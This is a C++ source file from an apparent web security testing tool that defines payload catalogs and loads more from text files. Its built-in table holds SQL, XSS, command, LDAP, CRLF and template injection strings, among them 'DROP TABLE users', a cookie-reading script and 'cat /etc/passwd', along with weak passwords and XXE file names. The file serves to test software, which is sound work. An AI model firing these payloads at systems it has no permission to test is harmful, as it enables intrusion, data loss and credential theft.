#include "mst/payloads.h"

#include <filesystem>
#include <fstream>
#include <sstream>
#include <stdexcept>

namespace mst {

namespace {

const std::map<std::string, std::vector<std::string>>& builtin() {
    static const std::map<std::string, std::vector<std::string>> table = {
        {"HttpMethod", {"GET", "POST", "PUT", "DELETE", "HEAD", "OPTIONS", "PATCH", "TRACE"}},
        {"SQLInjection",
         {"'or '1' = '1", "' OR 1=1 --", "\" OR \"\"=\"", "1; DROP TABLE users", "' UNION SELECT NULL--",
          "admin'--"}},
        {"CodeInjection",
         {"/%3C?php%20system(%22/bin/ls%20-l%22);?%3E", "<?php phpinfo(); ?>", "${7*7}", "{{7*7}}",
          "__import__('os').system('id')", "<%= 7*7 %>"}},
        {"XSSInjection",
         {"<SCRIPT>alert('XSS');</SCRIPT>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
          "\"><script>alert(document.cookie)</script>", "<svg onload=alert(1)>", "javascript:alert(1)"}},
        {"StaticInjection",
         {"<!--#exec cmd=\"ls\" -->", "<?php echo 'mst'; ?>", "<% out.println(\"mst\"); %>", "{{7*7}}", "${7*7}",
          "<script>document.write('mst')</script>"}},
        {"LDAPInjection", {"*", "*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectClass=*)", "x)(|(password=*))"}},
        {"XQueryInjection",
         {"' or '1'='1", "something' or /*:doc='1", "') or ('1'='1", "\" or \"1\"=\"1", "count(/child::node())"}},
        {"CommandInjection", {"; ls -l", "| id", "`id`", "$(id)", "&& cat /etc/passwd", "; sleep 5"}},
        {"CRLF",
         {");die(2", "%0d%0aSet-Cookie:mst=1", "\r\nX-Injected: 1", "%0d%0aLocation:%20http://example.com",
          "%E5%98%8A%E5%98%8DSet-Cookie:mst=1"}},
        {"WeakPassword", {"123456", "password", "admin", "qwerty", "letmein", "12345678"}},
        {"SpecialCharacters", {"'", "\"", "<", ">", "%", ";", "&", "\\", "|", "`"}},
        {"FileWithInvalidType",
         {"files/invalid_type.exe", "files/invalid_type.php", "files/invalid_type.sh", "files/invalid_type.html",
          "files/invalid_type.jsp"}},
        {"XMLInjectedFile",
         {"files/xxe_entity.xml", "files/billion_laughs.xml", "files/xinclude.xml", "files/cdata_script.xml",
          "files/tag_injection.xml"}},
    };
    return table;
}

std::string decode_escapes(const std::string& line) {
    std::string out;
    for (std::size_t i = 0; i < line.size(); ++i) {
        if (line[i] != '\\' || i + 1 >= line.size()) {
            out += line[i];
            continue;
        }
        char e = line[++i];
        switch (e) {
            case 'n': out += '\n'; break;
            case 'r': out += '\r'; break;
            case 't': out += '\t'; break;
            case '0': out += '\0'; break;
            case '\\': out += '\\'; break;
            default:
                out += '\\';
                out += e;
        }
    }
    return out;
}

}  // namespace

const std::vector<std::string>& payload_catalog_names() {
    static const std::vector<std::string> names = [] {
        std::vector<std::string> n;
        for (const auto& [k, v] : builtin()) n.push_back(k);
        return n;
    }();
    return names;
}

std::vector<std::string> parse_payload_file(const std::string& text) {
    std::vector<std::string> out;
    std::istringstream in(text);
    std::string line;
    while (std::getline(in, line)) {
        if (!line.empty() && line.back() == '\r') line.pop_back();
        if (line.empty() || line[0] == '#') continue;
        out.push_back(decode_escapes(line));
    }
    return out;
}

PayloadCatalogs PayloadCatalogs::defaults() {
    PayloadCatalogs c;
    c.catalogs_ = builtin();
    return c;
}

bool PayloadCatalogs::is_file_kind(const std::string& name) {
    return name == "FileWithInvalidType" || name == "XMLInjectedFile";
}

void PayloadCatalogs::load_dir(const std::string& dir) {
    namespace fs = std::filesystem;
    if (dir.empty() || !fs::is_directory(dir)) return;
    for (const auto& entry : fs::directory_iterator(dir)) {
        if (entry.path().extension() != ".txt") continue;
        std::ifstream in(entry.path(), std::ios::binary);
        std::stringstream ss;
        ss << in.rdbuf();
        std::string name = entry.path().stem().string();
        auto items = parse_payload_file(ss.str());
        if (items.empty()) continue;
        if (is_file_kind(name))
            for (auto& p : items)
                if (fs::path(p).is_relative()) p = (fs::path(dir) / p).lexically_normal().string();
        catalogs_[name] = std::move(items);
    }
    // Built-in file kinds without a catalog file still point into `dir`.
    for (const auto& [name, items] : builtin()) {
        if (!is_file_kind(name) || fs::exists(fs::path(dir) / (name + ".txt"))) continue;
        auto& dst = catalogs_[name];
        dst.clear();
        for (const auto& p : items) dst.push_back((fs::path(dir) / p).lexically_normal().string());
    }
}

void PayloadCatalogs::set(const std::string& name, std::vector<std::string> entries) {
    catalogs_[name] = std::move(entries);
}

const std::vector<std::string>& PayloadCatalogs::entries(const std::string& name) const {
    auto it = catalogs_.find(name);
    if (it == catalogs_.end()) throw std::out_of_range("no payload catalog '" + name + "'");
    return it->second;
}

}  // namespace mst
